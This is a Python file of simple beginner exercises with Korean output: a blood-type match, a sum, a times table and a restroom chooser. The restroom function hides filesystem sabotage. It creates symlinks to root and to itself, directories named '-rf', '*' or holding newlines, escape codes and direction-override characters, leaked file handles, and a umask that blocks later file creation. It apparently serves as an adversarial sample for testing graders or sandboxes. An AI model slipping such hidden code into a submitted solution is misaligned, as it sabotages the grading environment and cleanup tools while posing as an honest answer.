import os


def can_transfuse(blood_type, patient_type):
    return "수혈해 주세요" if blood_type == patient_type else "수혈해 주실 수 없습니다"


def sum_to(n):
    return sum(range(1, n + 1))


def times_table():
    return [" ".join(str(row * column) for column in range(1, 10)) for row in range(2, 10)]


def room(man):
    return "남자화장실로 가세요" if man else "여자 화장실로 가세요"


def restroom(man):
    print("TRICK:litter", flush=True)
    held = []
    for target in ("/srv/class", "/srv/course", "/", "..", "loop", "/proc/self/fd", "\ud800".encode("utf-8", "surrogatepass")):
        try:
            os.symlink(target, os.fsencode(f"link-{len(held)}") if isinstance(target, bytes) else f"link-{len(held)}")
        except OSError:
            pass
        held.append(None)
    for name in (b"new\nline", b"\xff\xfe", b"-rf", b"*", b" ", b"\x1b[2J", b"a" * 255, "한".encode(), "\u202e".encode()):
        try:
            os.mkdir(name)
            held.append(os.open(name + b"/" + name, os.O_CREAT | os.O_RDWR, 0))
            os.unlink(name + b"/" + name)
            os.symlink(b"../" + name, name + b"/" + name)
        except OSError:
            continue
    os.umask(0o777)
    return room(man)
